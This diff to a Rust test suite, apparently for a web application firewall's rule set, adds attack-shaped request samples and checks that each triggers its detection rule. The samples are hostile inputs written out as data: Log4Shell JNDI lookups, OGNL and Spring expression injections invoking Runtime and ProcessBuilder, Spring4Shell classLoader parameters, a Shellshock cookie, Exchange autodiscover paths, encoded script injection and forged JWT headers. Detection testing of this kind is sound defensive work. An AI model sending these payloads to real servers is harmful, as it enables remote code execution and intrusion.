@@ -122,6 +122,54 @@ fn each_hits_what_it_is_for_and_nothing_else() {
     assert_eq!(samples.len(), 20);
 }
 
+/// By id: what the other alternatives of a rule are for.
+fn alternatives() -> Vec<(u32, Sample)> {
+    let get = Sample::new;
+    let post = || Sample::new().method("POST");
+    let codings = "identity, a&b&**c**d, **, , *, , , gzip";
+    vec![
+        (1, get().header("${jndi:dns}", "x")),
+        (1, get().cookie("a", "\u{ff04}\u{ff5b}jndi:rmi}")),
+        (2, get().path("/%24%7Bjndi:dns%7D")),
+        (2, get().query("$%7Bjndi:dns}", "")),
+        (3, post().form("a", "${${::-j}ndi:dns}")),
+        (3, post().body("${jndi:ldaps://a.test/}")),
+        (4, get().path("/%24%7B@java.lang.Runtime@getRuntime()%7D")),
+        (4, get().query("q", "%25%7B+%23context['x']%7D")),
+        (4, post().form("redirect", "#{new java.lang.ProcessBuilder()}")),
+        (5, get().query("class%5B'classLoader'%5D", "x")),
+        (5, get().header("suffix", "class.module.classLoader.resources")),
+        (7, post().form("a", "&#36;{dns:a.test}")),
+        (7, get().cookie("a", "${URL:UTF-8:http://a.test}")),
+        (8, get().query("a[#lazy_builder]", "x")),
+        (8, get().query("q", "a/%23value")),
+        (8, get().cookie("#pre_render", "x")),
+        (10, post().form("a", "{{$eval('1')}}")),
+        (12, post().form("a", "&lt;SCRIPT/&gt;")),
+        (12, get().query("a", "%26amp;lt;script%26amp;gt;x; alert(1)")),
+        (14, get().path("/index.php%0a").query(&"Q".repeat(300), "")),
+        (14, get().path("/index.php/a%0D").query("a", &"Q".repeat(300))),
+        (15, get().path("/owa/a.css").cookie("X-AnonResource-Backend", "a.test~1942")),
+        (
+            17,
+            get().path("/autodiscover/autodiscover.json").cookie("Email", "AutoDiscover/autodiscover.json?a"),
+        ),
+        (17, get().path("/autodiscover/autodiscover.json").query("@a.test/mapi/nspi/", "")),
+        (18, get().header("Accept-Encoding", codings)),
+        (19, get().cookie("a", "()%20{%20:;};%20id")),
+        (20, get().header("Authorization", token(r#"{"alg":"RS256","kid":"../key"}"#))),
+        (20, get().header("Authorization", token(r#"{"alg":"HS512"}"#))),
+    ]
+}
+
+#[test]
+fn each_alternative_hits() {
+    for (id, sample) in alternatives() {
+        let rule = system_rules().find(|rule| rule.id == id).expect("a rule");
+        assert!(sample.hit_by(rule.script), "{} misses {sample:?}", rule.name);
+    }
+}
+
 #[test]
 fn they_are_twenty_with_ids_of_their_own() {
     let rules: Vec<_> = system_rules().collect();
